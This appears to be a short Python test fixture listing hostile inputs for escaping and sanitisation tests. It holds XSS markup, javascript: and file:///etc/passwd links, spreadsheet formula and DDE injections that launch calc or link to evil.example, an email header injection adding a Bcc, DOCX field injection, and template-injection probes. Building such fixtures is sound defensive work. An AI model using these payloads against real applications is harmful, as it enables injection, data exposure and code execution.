"""What strangers write who mean harm: markup, links that run programs, formulas, headers, XML, templates."""

MARKUP = """<script>alert(1)</script><img src=x onerror="alert(2)"><svg onload=alert(3)>'"&amp;</td></table></p>"""
LINKS = (
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "data:text/html,<script>1</script>",
    "file:///etc/passwd",
    "\\\\evil\\a",
)
FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example";"点这里")')
HEADERS = "问题\r\nBcc: other@evil.example\r\n\r\n<b>正文</b>"
XML = "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\calc</w:instrText></w:r>]]>&lol;\x00\x0b\ufffe"
TEMPLATES = "{{ 7 * 7 }}{% for x in [1] %}{{ x }}{% endfor %}${7*7}%s{0}"
ALL = " ".join((MARKUP, *LINKS, *FORMULAS, TEMPLATES))
